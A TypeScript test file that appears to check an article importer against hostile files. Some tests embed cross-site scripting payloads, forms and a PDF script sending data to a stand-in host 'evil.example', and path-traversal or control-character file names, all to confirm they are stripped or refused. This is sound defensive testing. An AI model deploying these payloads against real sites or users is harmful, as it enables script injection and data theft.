// Files made to do harm, through the real limited process: each is refused or cleaned, with a message that names it,
// within the limits, and the next file is read as if nothing had been.

import { afterAll, beforeAll, describe, expect, test } from "vitest"
import type { ArticleParser } from "../../shared/application/ports.ts"
import { canonicalText, documentJson } from "../../shared/domain/document.ts"
import { importers } from "../../shared/importers/registry.ts"
import { page, pdf, refusedFiles, utf8 } from "./support/hostile-files.ts"
import { say } from "./support/long.ts"
import { fixture, fixtures, startReaders } from "./support/reader.ts"

let parser: ArticleParser
beforeAll(async () => {
  parser = await startReaders()
})
afterAll(() => parser.close())

describe("is refused, and says why", () => {
  test.each(refusedFiles)("%s", async (_, name, bytes, words) => {
    const start = performance.now()
    const result = await parser.parse({ name, bytes: bytes() })
    expect(
      result.ok
        ? canonicalText((result.value[0] ?? expect.fail()).document).slice(0, 200)
        : result.error.message,
    ).toMatch(words)
    if (!result.ok) expect(result.error.message).toContain(`“${name}”`)
    expect(performance.now() - start).toBeLessThan(60_000)
  })
})

describe("is cleaned", () => {
  const around = (payload: string) =>
    `<html><body><article><p>${"The two ministers spoke for an hour on Friday, the first such call. ".repeat(12)}</p>${payload}<p>${"Neither side gave details of what was said, as officials noted. ".repeat(12)}</p></article></body></html>`

  test.each([
    [
      "javascript: links",
      `<p><a href="javascript:alert(1)">Read</a> <a href=" jAvaScript&colon;alert(1)">more</a></p>`,
    ],
    ["data: links", `<p><a href="data:text/html,<script>alert(1)</script>">Read</a></p>`],
    [
      "SVG",
      `<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
    ],
    [
      "MathML",
      `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
    ],
    [
      "handlers of events",
      `<p onclick="alert(1)" onmouseover=alert(1)>Text</p><img src=x onerror="alert(1)">`,
    ],
    ["meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`],
    [
      "forms",
      `<form action="https://evil.example/steal"><input value="alert(1)"><button>alert(1)</button></form>`,
    ],
    [
      "frames",
      `<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/"></object>`,
    ],
    ["base", `<base href="https://evil.example/"><p><a href="steal">Read</a></p>`],
    [
      "styles and templates",
      `<style>body{background:url(https://evil.example/)}</style><template><script>alert(1)</script></template>`,
    ],
    [
      "remote images",
      `<img src="https://evil.example/pixel.gif" alt=""><picture><source srcset="https://evil.example/2"></picture>`,
    ],
  ])("%s", async (_, payload) => {
    const result = await parser.parse({ name: "page.html", bytes: utf8(around(payload)) })
    const [draft] = result.ok ? result.value : []
    const json = JSON.stringify(draft && documentJson(draft.document))
    expect(json).toContain("The two ministers spoke")
    expect(json).toContain("Neither side gave details")
    expect(json).not.toMatch(/alert\(1\)|javascript|evil\.example|<script|onerror/i)
  })

  test("5,000 nested elements, without a loss of text", async () => {
    const deep = `${"<div><ul><li>".repeat(1700)}deep down${"</li></ul></div>".repeat(1700)}`
    const result = await parser.parse({ name: "deep.html", bytes: utf8(around(deep)) })
    const [draft] = result.ok ? result.value : []
    expect(draft && canonicalText(draft.document)).toContain("Neither side gave details")
  })

  test("a PDF with scripts gives its text, and runs nothing", async () => {
    const script = "<< /S /JavaScript /JS (app.alert(1); this.submitForm('http://evil.example')) >>"
    const text = "BT /F 12 Tf 50 700 Td (The two ministers spoke for an hour on Friday.) Tj ET"
    const bytes = pdf([`<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`, ...page(text)])
    const result = await parser.parse({ name: "script.pdf", bytes })
    const [draft] = result.ok ? result.value : []
    expect(draft && canonicalText(draft.document)).toBe("The two ministers spoke for an hour on Friday.")
  })

  test.each([
    ["../../../etc/passwd.txt", "passwd.txt"],
    ["C:\\Windows\\system32\\CON.txt", "CON.txt"],
    ["story\0.txt", "story.txt"],
    ["gpj.\u202etxt", "gpj.txt"],
    ["..", "Untitled"],
    ["NUL", "NUL"],
  ])("the name %j", async (name, shown) => {
    const result = await parser.parse({ name, bytes: utf8("Hello, world.") })
    expect(result.ok ? result.value[0]?.source.fileName : result.error.message).toBe(shown)
  })
})

describe("cut off", () => {
  const CUTS = 20

  test("there are files for every importer, and for each format that an importer reads among others", () => {
    const given = new Set(fixtures.map((name) => name.slice(name.lastIndexOf(".") + 1)))
    const missing = importers.filter(({ endings }) => !endings.some((ending) => given.has(ending)))
    expect(missing.map(({ name }) => name)).toEqual([])
    for (const ending of ["txt", "md", "jsonl", "nitf"]) expect(given).toContain(ending)
  })

  test.each(fixtures)("%s, at 20 places: what is read is sound, what is refused is named", async (name) => {
    const whole = fixture(name)
    const start = performance.now()
    const results = await Promise.all(
      Array.from({ length: CUTS }, (_, cut) =>
        parser.parse({ name, bytes: whole.subarray(0, Math.floor((whole.length * cut) / CUTS)) }),
      ),
    )
    for (const result of results) {
      if (result.ok) for (const { document } of result.value) document.check()
      else {
        expect(result.error.message).toContain(`“${name}”`)
        expect(result.error.code).not.toMatch(/took-too-long|unavailable|too-complex/)
      }
    }
    const read = results.filter(({ ok }) => ok).length
    expect(results[0]?.ok).toBe(false)
    say(
      `${name.padEnd(24)} ${read} read, ${CUTS - read} refused, ${Math.round(performance.now() - start)} ms`,
    )
  })
})

test("a program called an article is read by what it is", async () => {
  const pdfAsText = await parser.parse({ name: "story.txt", bytes: fixture("chromium.pdf") })
  expect(pdfAsText.ok && pdfAsText.value[0]?.source.mediaType).toBe("application/pdf")
  const rtfAsWord = await parser.parse({ name: "story.doc", bytes: fixture("libreoffice.rtf") })
  expect(rtfAsWord.ok && rtfAsWord.value[0]?.source.mediaType).toBe("application/rtf")
})
